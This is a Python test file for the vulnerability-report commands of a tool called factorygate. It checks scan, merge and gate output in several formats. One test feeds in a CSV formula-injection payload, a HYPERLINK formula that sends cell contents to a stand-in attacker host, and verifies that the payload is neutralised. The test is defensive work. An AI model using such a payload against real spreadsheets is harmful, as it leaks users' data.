"""`vulns scan` (the built-in matcher as a scanner) and the text / SARIF / CSV / CycloneDX reports of
`vulns merge|scan|gate`, through the real command line (in-process and as a subprocess)."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import jsonschema
import pytest
from tests.conftest import ROOT, run_cli
from tests.cyclonedx_schema import bom_validator

from factorygate.cli import main
from factorygate.vulns.output import safe_cell

DATA = ROOT / "tests" / "data"
TRIVY, GRYPE = str(DATA / "vulns" / "trivy-app.json"), str(DATA / "vulns" / "grype-app.json")
SBOM, MIRROR = str(DATA / "osv" / "sbom.cdx.json"), str(DATA / "osv" / "mirror")
SARIF_SCHEMA = json.loads((DATA / "schemas" / "sarif-schema-2.1.0.json").read_text())
AS_OF = "2026-11-23"


def cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """`factorygate ARGS` in-process: (exit code, stdout, stderr)."""
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def check_sarif(doc: dict) -> list[dict]:  # type: ignore[type-arg]
    """Valid against the official SARIF 2.1.0 schema; results point at their rule; one rule per id."""
    jsonschema.Draft4Validator(SARIF_SCHEMA).validate(doc)
    run = doc["runs"][0]
    rules = run["tool"]["driver"]["rules"]
    assert len({r["id"] for r in rules}) == len(rules)
    for res in run["results"]:
        assert rules[res["ruleIndex"]]["id"] == res["ruleId"]
        assert res["message"]["text"].startswith(res["ruleId"])
        assert res["partialFingerprints"]["vulnerabilityPackage/v1"]
    return list(run["results"])


def justifications(tmp_path: Path, *vids: str, expires: str = "2027-02-01") -> str:
    entries = "".join(
        f"  - vulnerability: {vid}\n    status: not_affected\n"
        "    justification: the vulnerable function is never called by the service\n"
        "    author: A. Developer\n    approver: =I. Approver\n"
        f"    approved: 2026-11-01\n    expires: {expires}\n"
        for vid in vids
    )
    path = tmp_path / "j.yaml"
    path.write_text(f"apiVersion: factorygate.dev/v1\nkind: Justifications\njustifications:\n{entries}")
    return str(path)


# --- vulns scan ----------------------------------------------------------------------------------


def test_scan_text_is_the_default_and_groups_by_severity(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = cli(capsys, "vulns", "scan", SBOM, "--osv", MIRROR)
    assert code == 0
    lines = out.splitlines()
    assert lines[0].startswith("9 findings (4 high, 2 medium, 3 unknown); scanners: factorygate-osv")
    assert lines.index("HIGH (4)") < lines.index("MEDIUM (2)") < lines.index("UNKNOWN (3)")
    header = lines[lines.index("HIGH (4)") + 1]
    assert header.split() == ["ID", "PACKAGE", "INSTALLED", "FIXED", "SCANNERS"]
    row = next(line for line in lines if line.strip().startswith("CVE-2023-4911"))
    assert row.split() == ["CVE-2023-4911", "libc6", "2.36-9+deb12u1", "2.36-9+deb12u3", "factorygate-osv"]
    assert row.index("libc6") == header.index("PACKAGE")  # aligned under its column
    assert err == ""  # mirror/db/npm/broken.json names no package of the SBOM: the prefilter never parses it


def test_scan_warns_once_per_unreadable_osv_file(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    mirror = tmp_path / "osv"
    shutil.copytree(MIRROR, mirror)
    (mirror / "db" / "PyPI" / "cut.json").write_text(
        '{"id": "PYSEC-2099-9", "affected": [{"package": {"name": "requests"'
    )
    (mirror / "db" / "PyPI" / "not-osv.json").write_text('{"name": "requests", "version": "1"}')
    code, out, err = cli(capsys, "vulns", "scan", SBOM, "--osv", str(mirror))
    assert code == 0
    assert out.startswith("9 findings")
    warnings = err.splitlines()
    assert len(warnings) == 2
    assert all(w.startswith("factorygate: warning: ") for w in warnings)
    assert "cut.json: not JSON" in warnings[0]
    assert "not-osv.json: not an OSV record" in warnings[1]


def test_scan_json_and_fail_on(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    out = tmp_path / "scan.json"
    code, _, err = cli(
        capsys, "vulns", "scan", SBOM, "--osv", MIRROR, "-f", "json", "-o", str(out), "--fail-on", "high"
    )
    assert code == 1
    assert "4 findings at or above high" in err
    doc = json.loads(out.read_text())
    assert doc["scanners"] == ["factorygate-osv"]
    assert doc["summary"]["high"] == 4
    assert cli(capsys, "vulns", "scan", SBOM, "--osv", MIRROR, "--fail-on", "critical")[0] == 0
    assert cli(capsys, "vulns", "scan", SBOM, "--osv", MIRROR, "--fail-on", "UNKNOWN")[0] == 1  # any finding


def test_scan_input_errors_exit_2(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    code, out, err = cli(capsys, "vulns", "scan", str(tmp_path / "missing.json"), "--osv", MIRROR)
    assert (code, out) == (2, "")
    assert err.count("\n") == 1
    assert "missing.json" in err
    code, _, err = cli(capsys, "vulns", "scan", SBOM, "--osv", str(tmp_path / "no-mirror"))
    assert code == 2
    assert "no-mirror" in err
    assert err.count("\n") == 1
    with pytest.raises(SystemExit) as exc:  # argparse: an unknown severity is a usage error (exit 2)
        main(["vulns", "scan", SBOM, "--osv", MIRROR, "--fail-on", "severe"])
    assert exc.value.code == 2


def test_scan_cyclonedx_round_trip_equals_the_built_in_matcher(tmp_path: Path) -> None:
    """scan -> CycloneDX file -> merge with Trivy gives what merge --sbom --osv gives directly."""
    bom = tmp_path / "osv.cdx.json"
    proc = run_cli("vulns", "scan", SBOM, "--osv", MIRROR, "-f", "cyclonedx", "-o", str(bom))
    assert proc.returncode == 0, proc.stderr
    doc = json.loads(bom.read_text())
    bom_validator().validate(doc)
    assert doc["specVersion"] == "1.5"
    assert doc["metadata"]["component"]["name"] == "app"  # the SBOM's subject
    assert doc["metadata"]["tools"]["components"][0]["name"] == "factorygate-osv"
    refs = {c["bom-ref"] for c in doc["components"]}
    by_id = {v["id"]: v for v in doc["vulnerabilities"]}
    assert all(a["ref"] in refs for v in doc["vulnerabilities"] for a in v["affects"])
    glibc = by_id["DEBIAN-CVE-2023-4911"]
    assert [r["id"] for r in glibc["references"]] == ["CVE-2023-4911"]
    assert glibc["ratings"][0] == {"source": {"name": "factorygate-osv"}, "severity": "high"}
    assert {"version": "2.36-9+deb12u3", "status": "unaffected"} in glibc["affects"][0]["versions"]

    via_file, direct = tmp_path / "via-file.json", tmp_path / "direct.json"
    assert run_cli("vulns", "merge", TRIVY, str(bom), "-o", str(via_file)).returncode == 0
    assert run_cli("vulns", "merge", TRIVY, "--sbom", SBOM, "--osv", MIRROR, "-o", str(direct)).returncode == 0
    merged = json.loads(via_file.read_text())
    assert merged["scanners"] == ["factorygate-osv", "trivy"]
    assert merged == json.loads(direct.read_text())
    # the gate decides the same, finding by finding (paths included); only the inputs differ
    gates = []
    for inputs in ([TRIVY, str(bom)], [TRIVY, "--sbom", SBOM, "--osv", MIRROR]):
        out = tmp_path / "decision.json"
        proc = run_cli("vulns", "gate", *inputs, "--as-of", AS_OF, "--two-scanners", "-o", str(out))
        assert proc.returncode == 1, proc.stderr
        decision = json.loads(out.read_text())
        decision.pop("inputs")
        gates.append(decision)
    assert gates[0] == gates[1]


def test_scan_sarif_and_csv(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = cli(capsys, "vulns", "scan", SBOM, "--osv", MIRROR, "-f", "sarif")
    assert code == 0
    results = check_sarif(json.loads(out))
    assert len(results) == 9
    code, out, _ = cli(capsys, "vulns", "scan", SBOM, "--osv", MIRROR, "-f", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 9
    assert {r["scanners"] for r in rows} == {"factorygate-osv"}


# --- merge formats -------------------------------------------------------------------------------


def test_merge_json_stays_the_default(capsys: pytest.CaptureFixture[str]) -> None:
    code, default, _ = cli(capsys, "vulns", "merge", TRIVY, GRYPE)
    assert code == 0
    assert json.loads(default) == json.loads(cli(capsys, "vulns", "merge", TRIVY, GRYPE, "-f", "json")[1])


def test_merge_sarif(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = cli(capsys, "vulns", "merge", TRIVY, GRYPE, "--format", "sarif")
    assert code == 0
    doc = json.loads(out)
    results = check_sarif(doc)
    merged = json.loads(cli(capsys, "vulns", "merge", TRIVY, GRYPE)[1])
    assert len(results) == len(merged["findings"])
    rules = doc["runs"][0]["tool"]["driver"]["rules"]
    assert {r["id"] for r in rules} == {f["id"] for f in merged["findings"]}
    levels = {(r["ruleId"], r["properties"]["package"]): r["level"] for r in results}
    for f in merged["findings"]:
        expected = {"critical": "error", "high": "error", "medium": "warning"}.get(f["severity"], "note")
        assert levels[(f["id"], f["package"]["name"])] == expected
    both = next(r for r in results if len(r["properties"]["scanners"]) == 2)
    assert both["properties"]["purl"].startswith("pkg:")
    assert set(both["properties"]["severity_by_scanner"]) == {"grype", "trivy"}
    requests = next(r for r in results if r["ruleId"] == "CVE-2024-35195")
    assert "GHSA-9wx4-h78v-vm56" in requests["properties"]["aliases"]
    for rule in rules:
        assert float(rule["properties"]["security-severity"]) >= 0.0


def test_merge_text_and_csv_through_the_subprocess(tmp_path: Path) -> None:
    proc = run_cli("vulns", "merge", TRIVY, GRYPE, "-f", "text")
    assert proc.returncode == 0, proc.stderr
    assert "only trivy found" in proc.stdout
    assert "scanners disagree on the severity of" in proc.stdout
    assert "\x1b[" not in proc.stdout  # no colours
    out = tmp_path / "merged.csv"
    proc = run_cli("vulns", "merge", TRIVY, GRYPE, "-f", "csv", "-o", str(out))
    assert proc.returncode == 0, proc.stderr
    raw = out.read_bytes()
    assert raw.startswith(b'"severity","id","aliases","package"')
    rows = list(csv.DictReader(io.StringIO(raw.decode())))
    merged = json.loads(run_cli("vulns", "merge", TRIVY, GRYPE).stdout)
    assert [(r["id"], r["package"]) for r in rows] == [(f["id"], f["package"]["name"]) for f in merged["findings"]]


def test_csv_cells_cannot_be_spreadsheet_formulas(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    hostile = {
        "SchemaVersion": 2,
        "ArtifactName": "app",
        "Results": [
            {
                "Target": "app",
                "Class": "lang-pkgs",
                "Type": "npm",
                "Vulnerabilities": [
                    {
                        "VulnerabilityID": "CVE-2024-0001",
                        "PkgName": '=HYPERLINK("http://evil.example/?"&A1,"x")',
                        "InstalledVersion": "-1+2",
                        "FixedVersion": "+3",
                        "Severity": "HIGH",
                        "Title": '@SUM(1,2) "quoted", and\nsecond line',
                    }
                ],
            }
        ],
    }
    report = tmp_path / "trivy.json"
    report.write_text(json.dumps(hostile))
    code, out, _ = cli(capsys, "vulns", "merge", str(report), "-f", "csv")
    assert code == 0
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["package"] == "'" + hostile["Results"][0]["Vulnerabilities"][0]["PkgName"]  # type: ignore[index]
    assert row["installed"] == "'-1+2"
    assert row["fixed"] == "'+3"
    assert row["title"] == '\'@SUM(1,2) "quoted", and second line'
    assert row["id"] == "CVE-2024-0001"  # ordinary cells untouched
    for cell in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert safe_cell(cell) == "'" + cell
    assert safe_cell("1.0") == "1.0"
    assert safe_cell(None) == ""


# --- gate formats --------------------------------------------------------------------------------


def test_gate_text_renders_the_decision(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    just = justifications(tmp_path, "CVE-2024-0553")
    code, out, err = cli(capsys, "vulns", "gate", TRIVY, GRYPE, "-j", just, "--as-of", AS_OF, "-f", "text")
    assert code == 1
    assert "NO-GO" in err
    lines = out.splitlines()
    assert lines[0].startswith("NO-GO  as of 2026-11-23; scanners: grype, trivy; blocking: critical, high")
    assert lines[2].startswith("Reasons (")
    blocking = lines.index(next(line for line in lines if line.startswith("Blocking findings")))
    justified = lines.index("Justified findings (1):")
    assert blocking < justified
    assert lines[justified + 1].split() == [
        "SEVERITY", "ID", "PACKAGE", "INSTALLED", "STATUS", "APPROVER", "EXPIRES", "WHERE"
    ]  # fmt: skip
    row = lines[justified + 2]
    assert "CVE-2024-0553" in row
    assert "not_affected" in row
    assert "=I. Approver" in row
    assert "2027-02-01" in row
    assert any(line.startswith("Other findings (") for line in lines)


def test_gate_sarif_suppresses_justified_findings(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    just = justifications(tmp_path, "CVE-2024-0553")
    code, out, _ = cli(capsys, "vulns", "gate", TRIVY, GRYPE, "-j", just, "--as-of", AS_OF, "-f", "sarif")
    assert code == 1
    doc = json.loads(out)
    results = check_sarif(doc)
    props = doc["runs"][0]["properties"]
    assert props["decision"] == "no-go"
    assert props["reasons"]
    justified = [r for r in results if r["properties"]["status"] == "justified"]
    assert [r["ruleId"] for r in justified] == ["CVE-2024-0553"]
    (suppression,) = justified[0]["suppressions"]
    assert suppression["status"] == "accepted"
    assert "=I. Approver" in suppression["justification"]
    assert justified[0]["level"] == "warning"  # high, but justified: not an error
    for r in results:
        assert (r["level"] == "error") == bool(r["properties"]["blocking"])


def test_gate_csv_and_run_level_reasons(tmp_path: Path) -> None:
    just = justifications(tmp_path, "CVE-2024-0553", expires="2026-11-20")  # expired three days ago
    out = tmp_path / "decision.csv"
    proc = run_cli("vulns", "gate", TRIVY, "-j", just, "--two-scanners", "--as-of", AS_OF, "-f", "csv", "-o", str(out))
    assert proc.returncode == 1
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert {r["decision"] for r in rows} == {"no-go"}
    assert rows[0]["id"] == ""
    assert rows[0]["blocking"].startswith("two scanners are required, 1 ran (trivy)")
    expired = next(r for r in rows if r["id"] == "CVE-2024-0553")
    assert expired["status"] == "expired"
    assert expired["expires"] == "2026-11-20"
    assert expired["approver"] == "'=I. Approver"  # formula-safe
    assert "justification expired 2026-11-20" in expired["blocking"]
    # the same gate in JSON (the default): the CSV lists every finding of the decision
    doc = json.loads(run_cli("vulns", "gate", TRIVY, "-j", just, "--two-scanners", "--as-of", AS_OF).stdout)
    assert len(rows) - 1 == len(doc["findings"])
    assert doc["findings"][0]["justification"] is None or "approver" in doc["findings"][0]["justification"]


def test_go_decision_in_every_format(capsys: pytest.CaptureFixture[str]) -> None:
    for fmt in ("json", "text", "sarif", "csv"):
        code, out, err = cli(capsys, "vulns", "gate", TRIVY, GRYPE, "--block", "critical", "--as-of", AS_OF, "-f", fmt)
        blocked = code == 1
        assert "NO-GO" in err if blocked else "factorygate: GO" in err
        if fmt == "text":
            assert out.startswith("NO-GO" if blocked else "GO")
        if fmt == "sarif":
            assert json.loads(out)["runs"][0]["properties"]["go"] is not blocked


# --- html: the project's self-contained page -------------------------------------------------------


def test_merge_scan_and_gate_as_html(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    code, out, _ = cli(capsys, "vulns", "merge", TRIVY, GRYPE, "-f", "html")
    assert code == 0
    assert out.startswith("<!DOCTYPE html>")
    assert "http://" not in out.split("</head>")[0]
    merged = json.loads(main_json(capsys, "vulns", "merge", TRIVY, GRYPE))
    ids = {f["id"] for f in merged["findings"]}
    assert ids
    assert all(vid in out for vid in ids)

    code, out, _ = cli(capsys, "vulns", "scan", SBOM, "--osv", MIRROR, "-f", "html")
    assert code == 0
    assert "factorygate-osv" in out

    just = justifications(tmp_path, "CVE-2024-0553")
    report = tmp_path / "gate.html"
    code, _, err = cli(
        capsys, "vulns", "gate", TRIVY, GRYPE, "-j", just, "--as-of", AS_OF, "-f", "html", "-o", str(report)
    )
    assert code == 1
    assert "NO-GO" in err
    page = report.read_text(encoding="utf-8")
    assert "Decision: no-go" in page
    assert "CVE-2024-0553" in page
    assert "=I. Approver" in page


def main_json(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    code, out, _ = cli(capsys, *args)
    assert code == 0
    return out
